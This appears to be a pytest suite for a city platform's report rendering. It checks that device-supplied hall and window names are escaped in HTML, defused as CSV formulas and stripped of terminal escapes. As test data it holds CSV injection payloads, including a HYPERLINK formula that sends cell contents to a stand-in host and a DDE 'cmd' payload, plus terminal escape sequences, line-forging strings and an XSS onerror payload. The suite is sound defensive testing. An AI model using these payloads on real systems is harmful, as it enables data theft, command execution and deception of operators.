"""Audit of the report's rendering of hostile strings: a device's hall id or a window name
(from its retained config topic) is text in every format — escaped in HTML, never a
formula in the CSV Excel opens, never a terminal escape sequence in the table."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from city_platform.report import build_report
from city_platform.report_html import to_html
from city_platform.report_text import BOM, to_csv, to_table
from city_platform.store import Store
from tests.support.ratings import make_rating

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    s = Store.open(f"sqlite:///{tmp_path / 'ratings.db'}")
    yield s
    s.close()


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://x.example/?"&A1,"点击")',
                                     "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"])
def test_a_csv_cell_is_never_a_formula(store: Store, hostile: str) -> None:
    """Found by the audit: the CSV is made for Excel (BOM), and a hall id or window name
    starting with = + - @ went in as it was: Excel runs it as a formula (CSV injection),
    e.g. a link that sends the sheet's cells away."""
    store.submit([make_rating(hall_id=hostile, window_id=hostile, level=1,
                              reason="R01")])
    store.note_window(hostile, hostile, "421100-HG01-W03", hostile)
    rows = cells(to_csv(build_report(store)))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    # The text itself is all there, after the quote Excel shows nothing of.
    assert rows[1][1] == "'" + hostile


def test_the_table_shows_no_terminal_escape(store: Store) -> None:
    """Found by the audit: the table printed a window name (from a device's retained
    config topic, only cut to 40 characters) and hall id as they came: an escape
    sequence in one cleared or re-titled the operator's terminal."""
    hostile = "\x1b]0;pwned\x07\x1b[2J名\r\n伪造行"
    store.submit([make_rating(hall_id="H\x1b[31m", level=5)])
    store.note_window("H\x1b[31m", "W03", "421100-HG01-W03", hostile)
    table = to_table(build_report(store))
    assert "\x1b" not in table and "\x07" not in table and "\r" not in table
    assert "伪造行" not in table.splitlines()[0:1]
    assert all(not line.startswith("伪造行") for line in table.splitlines())


def test_html_escapes_hostile_names(store: Store) -> None:
    hostile = '<img src=x onerror="alert(1)">&'
    store.submit([make_rating(hall_id=hostile, window_id=hostile, level=1, reason="R01")])
    store.note_window(hostile, hostile, "421100-HG01-W03", hostile)
    page = to_html(build_report(store))
    assert "<img" not in page and "&lt;img src=x" in page


@settings(max_examples=50, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=40))
def test_any_name_is_plain_text_in_every_format(tmp_path: Path, name: str) -> None:
    s = Store.open(f"sqlite:///{tmp_path / 'ratings.db'}")
    try:
        s.note_window("HG01", "W03", "421100-HG01-W03", name)
        s.submit([make_rating(level=2)])
        report = build_report(s)
        assert all(not c.startswith(FORMULA_STARTS) for row in cells(to_csv(report))[1:]
                   for c in row)
        table = to_table(report)
        assert all(ch.isprintable() or ch == "\n" for ch in table)
    finally:
        s.close()


def test_followups_list_shows_no_terminal_escape(tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    """Found by the audit: `followups list` printed a case id, hall and window id as
    they came from the device: an escape sequence in one reached the operator's
    terminal, a line break forged a line of the list."""
    from city_platform.followups_cli import main

    url = f"sqlite:///{tmp_path / 'ratings.db'}"
    s = Store.open(url)
    s.submit([make_rating(level=1, hall_id="H\x1b[2J", window_id="W\r\n伪造",
                          case={"case_id": "C\x1b]0;pwned\x07\n伪造行"})])
    s.close()
    assert main(["--store", url, "list"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert len(out.splitlines()) == 2   # the header and the one follow-up
